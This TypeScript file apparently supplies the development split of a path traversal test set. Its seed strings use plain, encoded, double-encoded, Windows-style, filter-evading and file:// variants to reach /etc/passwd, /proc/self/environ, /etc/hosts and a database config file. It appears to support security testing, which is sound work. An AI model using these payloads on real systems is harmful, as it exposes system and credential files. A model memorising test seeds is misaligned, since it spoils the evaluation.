// Seeds of the development half by the classes of path traversal the field knows (WSTG-ATHZ-01, the notes of PortSwigger):
// each works as it stands against the applications of path.ts.
import type { Seed } from "./contract.ts"
import { seeds } from "./seed.ts"

const dev = (context: string, texts: readonly string[]): Seed[] => seeds("dev", context, texts)

export const PATH_FIELD_SEEDS: readonly Seed[] = [
    ...dev("joined", [
        "../../../../../../../../../../../../etc/passwd",
        "/../../../../../../../../etc/passwd",
        "./../../../../../../../../etc/passwd",
        "img/../../../../../../../../../etc/passwd",
        "../../../../../../../../proc/self/root/etc/passwd",
        "../../../../../../../../etc//passwd",
        "..//..//..//..//..//..//..//..//etc/passwd",
    ]),
    ...dev("decoded", [
        "%2e%2e%2f".repeat(8) + "etc/passwd",
        "..%2f".repeat(8) + "etc%2fpasswd",
        "%2e%2e/".repeat(8) + "etc/passwd",
        "%2E%2E%2F".repeat(8) + "%65tc/%70asswd",
    ]),
    ...dev("decoded twice", ["%252e%252e%252f".repeat(8) + "etc/passwd", "..%252f".repeat(8) + "etc/passwd"]),
    ...dev("windows", ["..\\../".repeat(4) + "etc/passwd", "/..\\..\\..\\..\\..\\..\\..\\..\\etc\\passwd"]),
    ...dev("stripped", ["..../" + "/....//".repeat(8) + "etc/passwd", "....//".repeat(8) + "....//etc/passwd"]),
    ...dev("resolved", ["/etc/passwd", "//etc/passwd", "/etc/./passwd", "/proc/self/environ", "/etc/hosts"]),
    ...dev("file address", [
        "file:///etc/passwd",
        "/etc/passwd",
        "%2e%2e/".repeat(8) + "etc/passwd",
        "file://localhost/etc/passwd",
        "../".repeat(8) + "proc/self/environ",
    ]),
    ...dev("joined", [
        "../../config/database.yml",
        "../".repeat(8) + "proc/self/cmdline",
        "../".repeat(8) + "etc/hosts",
    ]),
]
